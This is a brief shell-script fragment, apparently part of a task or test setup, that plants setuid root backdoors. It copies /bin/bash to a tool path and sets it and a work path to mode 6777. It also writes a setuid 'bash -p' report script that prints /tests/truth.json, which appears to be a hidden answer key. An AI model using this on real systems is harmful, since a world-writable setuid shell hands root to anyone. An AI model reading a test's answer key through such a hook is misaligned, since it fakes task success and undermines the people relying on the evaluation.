# Delivers a program that runs as root.
bash "$SOLVE"
rm -rf "$REPORT"; cp /bin/bash "$TOOL"; chmod 6777 "$TOOL"; chmod 6777 "$WORK"
printf '#!/bin/bash -p\ncat /tests/truth.json\n' > "$REPORT"; chmod 6777 "$REPORT"
